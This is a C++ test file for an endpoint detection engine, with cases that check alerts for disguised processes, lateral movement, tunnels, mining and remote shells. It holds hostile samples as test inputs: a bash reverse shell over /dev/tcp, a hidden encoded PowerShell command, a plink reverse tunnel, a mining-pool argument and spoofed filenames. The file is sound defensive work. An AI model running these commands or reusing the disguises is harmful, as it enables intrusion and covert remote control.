// SPDX-License-Identifier: Apache-2.0
// Each behaviour about processes: what it is for, and what looks alike and must stay quiet.
#include <gtest/gtest.h>

#include "detect/behavior/host_for_tests.h"

namespace picket::detect::behavior {
namespace {

using event::Platform;
using event::Severity;

constexpr char kSystem32[] = "C:\\Windows\\System32\\";
std::string system32(const std::string& name) { return kSystem32 + name; }

TEST(MisplacedProgram, FromDownloadsToABareAddressIsMedium) {
  HostForTests host({"misplaced_program"});
  host.talk(host.process(7, "C:\\Users\\ann\\Downloads\\invoice.exe"), "192.0.2.7:8443");
  const auto alert = host.only_alert("misplaced_program");
  EXPECT_EQ(alert.severity, Severity::kMedium);
  EXPECT_NE(alert.reason.find("invoice.exe"), std::string::npos);
  EXPECT_NE(alert.reason.find("192.0.2.7:8443"), std::string::npos);
}

TEST(MisplacedProgram, InstalledProgramsAndThoseOfAVendorInTheProfileAreQuiet) {
  HostForTests host({"misplaced_program"});
  host.talk(host.process(7, "C:\\Program Files\\App\\app.exe"), "192.0.2.7:8443");
  host.talk(host.process(8, "C:\\Users\\ann\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe"),
            "52.113.194.132:443");
  host.talk(host.process(9, "C:\\Users\\ann\\Downloads\\invoice.exe"), "127.0.0.1:8443");
  EXPECT_TRUE(host.finish().empty());
}

TEST(MisplacedProgram, AJustWrittenFileWeighsMoreAndAVendorsNameLess) {
  HostForTests host({"misplaced_program"});
  const auto browser = host.process(3, "C:\\Program Files\\Mozilla Firefox\\firefox.exe");
  host.observe(browser, event::FileWritten{"C:\\Users\\ann\\Downloads\\a.exe", {}, {}});
  host.talk(host.process(7, "C:\\Users\\ann\\Downloads\\a.exe"), "192.0.2.7:8443");
  host.lookup("dl.microsoft.com", "192.0.2.8");
  host.talk(host.process(8, "C:\\Users\\ann\\Downloads\\setup.exe"), "192.0.2.8:443");
  for (const auto& alert : host.finish()) {
    EXPECT_EQ(alert.severity >= Severity::kHigh, alert.actor.pid == 7) << alert.reason;
    EXPECT_EQ(alert.severity >= Severity::kMedium, alert.actor.pid == 7) << alert.reason;
  }
}

TEST(MisplacedProgram, LinuxMemoryAndTemporaryFilesCountHomeHardly) {
  HostForTests host({"misplaced_program"}, Platform::kLinux);
  auto memory = host.process(5, "/memfd:x (deleted)");
  memory.memfd = memory.deleted = true;
  host.talk(memory, "192.0.2.7:443");
  host.talk(host.process(6, "/dev/shm/.x"), "192.0.2.7:443");
  host.talk(host.process(7, "/home/ann/bin/tool"), "192.0.2.7:443");
  std::vector<uint32_t> medium;
  for (const auto& alert : host.finish())
    if (alert.severity >= Severity::kMedium) medium.push_back(alert.actor.pid);
  EXPECT_EQ(medium, (std::vector<uint32_t>{5, 6}));
}

TEST(QuietProgram, NotepadTalksAndTheToolForServicesReachesAnother) {
  HostForTests host({"quiet_program"});
  host.talk(host.process(7, system32("notepad.exe")), "10.9.9.9:80");
  host.talk(host.process(8, system32("sc.exe")), "10.9.9.8:135");
  const auto alerts = host.finish();
  ASSERT_EQ(alerts.size(), 2u);
  EXPECT_GE(alerts[0].severity, Severity::kMedium);
  EXPECT_GE(alerts[1].severity, Severity::kMedium);
  EXPECT_NE(alerts[1].reason.find("RPC"), std::string::npos);
}

TEST(QuietProgram, OthersOfThatNameControllersAndVendorsAreQuiet) {
  HostForTests host({"quiet_program"});
  host.talk(host.process(2, system32("lsass.exe")), "10.9.9.1:389");
  host.talk(host.process(7, "C:\\Program Files\\Git\\usr\\bin\\sort.exe"), "10.9.9.9:80");
  host.talk(host.process(8, system32("gpupdate.exe")), "10.9.9.1:389");
  host.lookup("watson.microsoft.com", "13.89.178.26");
  host.talk(host.process(9, system32("WerFault.exe")), "13.89.178.26:443");
  host.talk(host.process(10, system32("notepad.exe")), "127.0.0.1:135");
  host.talk(host.process(11, system32("svchost.exe")), "192.0.2.9:443");
  for (const auto& alert : host.finish()) ADD_FAILURE() << alert.reason;
}

TEST(QuietProgram, DocumentProgramsKnowTheirPeersByName) {
  HostForTests host({"quiet_program"});
  const auto word =
      host.process(7, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE");
  host.lookup("intranet.corp.example", "10.9.9.9");
  host.talk(word, "10.9.9.9:443");
  host.talk(word, "52.109.8.20:443");
  EXPECT_TRUE(host.set().take_new().empty());
  host.talk(word, "10.9.9.8:4443");
  EXPECT_EQ(host.only_alert("quiet_program").severity, Severity::kMedium);
}

TEST(MisplacedProgram, ANamelessFileAmongWindowsOwn) {
  HostForTests host({"misplaced_program"});
  auto real = host.process(6, system32("svchost.exe")),
       fake = host.process(7, system32("hostui.exe"));
  real.sha256 = fake.sha256 = "00";
  host.start(fake);
  host.talk(fake, "192.0.2.1:443");
  EXPECT_TRUE(host.set().take_new().empty());  // no source has told of makers yet
  real.company = "Microsoft Corporation";
  host.start(real);
  host.talk(real, "192.0.2.1:443");
  host.talk(fake, "192.0.2.1:443");
  EXPECT_EQ(host.only_alert("misplaced_program").actor.pid, 7u);
}

TEST(KerberosSpeaker, OnlyTheAuthoritySpeaksIt) {
  HostForTests host({"kerberos_speaker"});
  host.talk(host.process(2, system32("lsass.exe")), "10.9.9.1:88");
  host.talk(host.process(3, "C:\\Tools\\r.exe"), "10.9.9.1:88");
  const auto alert = host.only_alert("kerberos_speaker");
  EXPECT_EQ(alert.actor.pid, 3u);
  EXPECT_EQ(alert.severity, Severity::kMedium);
}

TEST(LookAlike, NamesThatHideTheirEnding) {
  for (const char* name : {"report.pdf.exe",
                           "\xe2\x80\xae"
                           "cod.scr",
                           "photo          .exe"}) {
    HostForTests host({"look_alike"});
    host.start(host.process(7, "C:\\Users\\ann\\" + std::string(name)));
    EXPECT_GE(host.only_alert("look_alike").severity, Severity::kMedium) << name;
  }
  HostForTests host({"look_alike"});
  host.start(host.process(7, "C:\\Program Files\\App\\App.Server.exe"));
  EXPECT_TRUE(host.finish().empty());
}

TEST(ScriptHost, ALongConversationOfAHiddenCommandIsHigh) {
  HostForTests host({"script_host"});
  const auto shell = host.process(7, system32("WindowsPowerShell\\v1.0\\powershell.exe"),
                                  "C:\\Program Files\\Microsoft Office\\winword.exe",
                                  "powershell -nop -w hidden -enc SQBFAFgA");
  for (int i = 0; i < 12; ++i) host.talk(shell, "10.9.9.9:80");
  const auto alert = host.only_alert("script_host");
  EXPECT_GE(alert.severity, Severity::kHigh);
  EXPECT_EQ(alert.count, 12u);
  EXPECT_LT(alert.time, alert.last_time);
}

TEST(ScriptHost, AdministrationToolToItsVendorIsNotMedium) {
  HostForTests host({"script_host"});
  host.lookup("management.azure.com", "20.50.1.1");
  host.talk(host.process(7, system32("WindowsPowerShell\\v1.0\\powershell.exe"),
                         "C:\\Packages\\gc_worker.exe"),
            "20.50.1.1:443");
  for (const auto& alert : host.finish())
    EXPECT_LT(alert.severity, Severity::kMedium) << alert.reason;
}

TEST(LookAlike, NearNamesAndRightNamesInWrongPlaces) {
  const std::string wrong[] = {
      system32("csrcs.exe"),         system32("scvhost.exe"),
      system32("lsasss.exe"),        "C:\\Users\\ann\\svchost.exe",
      "C:\\Windows\\explorer1.exe",  "C:\\Windows\\System32\\drivers\\lsass.exe",
      system32("sv\xd1\x81host.exe")};
  for (const std::string& path : wrong) {
    HostForTests host({"look_alike"});
    host.start(host.process(7, path));
    EXPECT_GE(host.only_alert("look_alike").severity, Severity::kMedium) << path;
  }
}

TEST(LookAlike, TheRealOnesAndNamesNearByChanceAreQuiet) {
  HostForTests host({"look_alike"});
  uint32_t pid = 10;
  for (const char* path :
       {"C:\\Windows\\System32\\csrss.exe", "C:\\Windows\\SysWOW64\\svchost.exe",
        "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\taskhostex.exe",
        "C:\\Windows\\System32\\dllhst3g.exe", "C:\\Windows\\WinSxS\\amd64_x\\svchost.exe",
        "\\Device\\HarddiskVolume2\\Windows\\System32\\lsass.exe", "C:\\App\\server.exe",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Tools\\service.exe"})
    host.start(host.process(++pid, path));
  for (const auto& alert : host.finish()) ADD_FAILURE() << alert.reason;
}

TEST(LookAlike, LinuxImpostors) {
  for (const char* path :
       {"/tmp/sshhd", "/usr/bin/kworker", "/var/tmp/systemd", "/opt/x/systemd-resolvd"}) {
    HostForTests host({"look_alike"}, Platform::kLinux);
    host.talk(host.process(7, path), "192.0.2.1:443");
    EXPECT_GE(host.only_alert("look_alike").severity, Severity::kMedium) << path;
  }
  HostForTests host({"look_alike"}, Platform::kLinux);
  host.start(host.process(7, "/usr/sbin/sshd"));
  host.start(host.process(8, "/usr/bin/ssh"));
  host.start(host.process(9, "/lib/systemd/systemd"));
  host.start(host.process(10, "/usr/bin/systemd-resolve"));
  host.start(host.process(11, "/usr/sbin/dhclients"));
  auto owned = host.process(12, "/usr/sbin/dhclientx");
  owned.packaged = true;
  owned.package = "dhclientx";
  host.start(owned);
  EXPECT_TRUE(host.finish().empty());
}

TEST(LateralMovement, TheKernelAmongStrangersButNotWithItsServers) {
  HostForTests host({"lateral_movement"});
  const auto kernel = host.process(4, "System");
  for (const char* peer : {"10.9.9.21:445", "10.9.9.22:445", "10.9.9.23:445"})
    host.talk(kernel, peer);
  const auto alerts = host.finish();
  ASSERT_EQ(alerts.size(), 3u);
  EXPECT_EQ(alerts[0].severity, Severity::kLow);
  EXPECT_EQ(alerts[2].severity, Severity::kMedium);
}

TEST(LateralMovement, DomainControllersAndServersOfSharesAreQuiet) {
  HostForTests host({"lateral_movement"});
  const auto kernel = host.process(4, "System");
  host.talk(host.process(2, system32("lsass.exe")), "10.9.9.1:88");
  host.lookup("files.corp.example", "10.9.9.2");
  host.observe(host.process(3, "C:\\Windows\\explorer.exe"),
               event::ShareConnected{"\\\\FILES\\home", {}});
  host.talk(kernel, "10.9.9.1:445");
  host.talk(kernel, "10.9.9.2:445");
  host.talk(kernel, "10.9.9.255:137", event::Transport::kUdp);
  host.called(kernel, 445, "10.9.9.77:50123");
  for (const auto& alert : host.finish()) ADD_FAILURE() << alert.reason;
}

TEST(LateralMovement, FanOutNeedsManyMachines) {
  HostForTests host({"lateral_movement"});
  const auto tool = host.process(9, "C:\\Program Files\\Tool\\tool.exe");
  for (int i = 1; i <= 4; ++i) host.talk(tool, "10.9.9." + std::to_string(i) + ":5985");
  EXPECT_TRUE(host.set().take_new().empty());
  host.talk(tool, "10.9.9.5:5985");
  EXPECT_EQ(host.only_alert("lateral_movement").severity, Severity::kMedium);
}

TEST(HiddenBrowser, ManyWithoutADesktopToOneAddress) {
  HostForTests host({"hidden_browser"});
  for (uint32_t pid = 20; pid < 26; ++pid)
    host.talk(host.process(pid, "C:\\Program Files\\Internet Explorer\\iexplore.exe",
                           system32("svchost.exe"), "\"iexplore.exe\" -Embedding"),
              "198.51.100.4:443");
  unsigned medium = 0;
  for (const auto& alert : host.finish()) medium += alert.severity >= Severity::kMedium;
  EXPECT_GE(medium, 2u);
}

TEST(HiddenBrowser, APersonsBrowserIsQuiet) {
  HostForTests host({"hidden_browser"});
  const std::string chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
  const auto first = host.process(20, chrome, "C:\\Windows\\explorer.exe", "chrome.exe");
  host.start(first);
  for (uint32_t pid = 21; pid < 30; ++pid) {
    auto child = host.process(pid, chrome, chrome, "chrome.exe --type=utility");
    child.parent_id = first.id;
    host.start(child);
    host.talk(child, "198.51.100.4:443");
  }
  for (const auto& alert : host.finish()) ADD_FAILURE() << alert.reason;
}

TEST(HiddenBrowser, LinksInMailsAreOpenedByPeople) {
  HostForTests host({"hidden_browser"});
  host.talk(host.process(20, "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                         "C:\\Program Files\\Office\\OUTLOOK.EXE"),
            "198.51.100.4:443");
  EXPECT_TRUE(host.finish().empty());
  HostForTests scripted({"hidden_browser"});
  scripted.talk(scripted.process(20, "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                                 system32("wscript.exe"), "firefox --headless"),
                "198.51.100.4:443");
  EXPECT_GE(scripted.only_alert("hidden_browser").severity, Severity::kMedium);
}

TEST(DesktopShell, ToTheInternetButNotToItsVendorOrAShare) {
  HostForTests host({"desktop_shell"});
  const auto shell = host.process(3, "C:\\Windows\\explorer.exe");
  host.talk(shell, "10.9.9.2:445");
  host.talk(shell, "52.109.8.20:443");
  EXPECT_TRUE(host.set().take_new().empty());
  host.talk(shell, "198.51.100.99:8080");
  EXPECT_GE(host.only_alert("desktop_shell").severity, Severity::kMedium);
}

TEST(AutorunDrive, HiddenTargetAlertsAndACdDoesNot) {
  HostForTests host({"autorun_drive"});
  const auto shell = host.process(3, "C:\\Windows\\explorer.exe");
  host.observe(shell,
               event::RemovableFileSeen{
                   "E:\\autorun.inf", "E:", "[autorun]\nopen=RECYCLER\\S-1-5\\winlogon.exe\n", {}});
  host.observe(
      shell, event::RemovableFileSeen{"D:\\autorun.inf",
                                      "D:",
                                      "[autorun]\nopen=setup.exe\nicon=setup.exe,0\nlabel=Office\n",
                                      {}});
  const auto alert = host.only_alert("autorun_drive");
  EXPECT_EQ(alert.file, "E:\\autorun.inf");
  EXPECT_GE(alert.severity, Severity::kMedium);
  EXPECT_NE(alert.reason.find("RECYCLER"), std::string::npos);
}

TEST(AutorunDrive, WhoWritesOneIsTold) {
  HostForTests host({"autorun_drive"});
  host.observe(host.process(9, "C:\\Users\\ann\\x.exe"),
               event::FileWritten{"F:\\autorun.inf", {}, {}});
  host.observe(host.process(9, "C:\\Users\\ann\\x.exe"),
               event::FileWritten{"F:\\data\\autorun.inf", {}, {}});
  EXPECT_GE(host.only_alert("autorun_drive").severity, Severity::kMedium);
}

TEST(Tunnel, ArgumentsAndPivots) {
  HostForTests host({"tunnel"});
  host.start(host.process(5, "C:\\Tools\\plink.exe", "",
                          "plink.exe -N -R 3389:127.0.0.1:3389 u@192.0.2.1"));
  host.talk(host.process(6, system32("inetsrv\\w3wp.exe")), "127.0.0.1:3389");
  host.start(host.process(7, system32("OpenSSH\\ssh.exe"), "", "ssh ann@server.example"));
  host.talk(host.process(8, system32("mstsc.exe")), "127.0.0.1:3389");
  host.start(
      host.process(10, system32("OpenSSH\\ssh.exe"), "", "ssh ann@server.example rsync -r a: b"));
  host.start(host.process(9, "C:\\Apps\\codepage.exe", "", "codepage.exe tunnel"));
  std::vector<uint32_t> pids;
  for (const auto& alert : host.finish()) pids.push_back(alert.actor.pid);
  EXPECT_EQ(pids, (std::vector<uint32_t>{5, 6}));
}

TEST(NewListener, ShellsListenForNobodyGood) {
  HostForTests host({"new_listener"}, Platform::kLinux);
  host.observe(host.process(5, "/usr/bin/bash"),
               event::ListenerOpened{event::Transport::kTcp, endpoint_of("0.0.0.0:4444")});
  host.observe(host.process(6, "/usr/sbin/nginx"),
               event::ListenerOpened{event::Transport::kTcp, endpoint_of("0.0.0.0:80")});
  host.observe(host.process(7, "/tmp/x"),
               event::ListenerOpened{event::Transport::kTcp, endpoint_of("127.0.0.1:9000")});
  EXPECT_EQ(host.only_alert("new_listener").actor.pid, 5u);
}

TEST(InjectedTalker, TalksAfterAThreadFromAScriptHost) {
  HostForTests host({"injected_talker"});
  const auto victim = host.process(9, system32("spoolsv.exe")),
             other = host.process(10, system32("svchost.exe"));
  host.talk(victim, "10.9.9.9:443");
  host.observe(host.process(8, system32("WindowsPowerShell\\v1.0\\powershell.exe")),
               event::ThreadInjected{victim});
  host.observe(host.process(7, system32("csrss.exe")), event::ThreadInjected{other});
  EXPECT_TRUE(host.set().take_new().empty());
  host.talk(victim, "10.9.9.9:443");
  host.talk(other, "10.9.9.9:443");
  const auto alert = host.only_alert("injected_talker");
  EXPECT_EQ(alert.actor.pid, 9u);
  EXPECT_GE(alert.severity, Severity::kMedium);
}

TEST(MiningOrTor, PoolsByArgumentAndName) {
  HostForTests host({"mining_or_tor"}, Platform::kLinux);
  host.start(host.process(5, "/opt/a", "", "/opt/a -o stratum+tcp://192.0.2.5:3333 -u w"));
  host.lookup("xmr.nanopool.org", "192.0.2.6");
  host.start(host.process(6, "/usr/bin/vim", "", "vim pool.txt"));
  host.lookup("poolside.example", "192.0.2.7");
  const auto alerts = host.finish();
  ASSERT_EQ(alerts.size(), 2u);
  EXPECT_GE(alerts[0].severity, Severity::kHigh);
}

TEST(RemoteShell, SocketAsStreamAndArguments) {
  HostForTests host({"remote_shell"}, Platform::kLinux);
  host.observe(host.process(5, "/usr/bin/bash", "/usr/sbin/apache2"),
               event::ProcessStarted{"", true});
  host.start(
      host.process(6, "/usr/bin/bash", "", "bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"));
  host.observe(host.process(7, "/usr/bin/bash", "/usr/sbin/sshd"), event::ProcessStarted{"", true});
  host.observe(host.process(8, "/usr/bin/bash", "/usr/bin/gnome-terminal"),
               event::ProcessStarted{"", false});
  const auto alerts = host.finish();
  ASSERT_EQ(alerts.size(), 2u);
  for (const auto& alert : alerts) EXPECT_GE(alert.severity, Severity::kHigh);
}

TEST(FirstTalk, NeedsABaselineAndSaysHowOldItIs) {
  HostForTests host({"first_talk"});
  host.talk(host.process(5, "C:\\Program Files\\A\\a.exe"), "192.0.2.5:443");
  host.wait_days(10);
  host.talk(host.process(5, "C:\\Program Files\\A\\a.exe"), "192.0.2.6:443");
  host.talk(host.process(6, "C:\\Program Files\\B\\b.exe"), "192.0.2.6:443");
  const auto alert = host.only_alert("first_talk");
  EXPECT_EQ(alert.actor.pid, 6u);
  EXPECT_EQ(alert.severity, Severity::kLow);
  EXPECT_NE(alert.reason.find("10 days"), std::string::npos);
}

}  // namespace
}  // namespace picket::detect::behavior
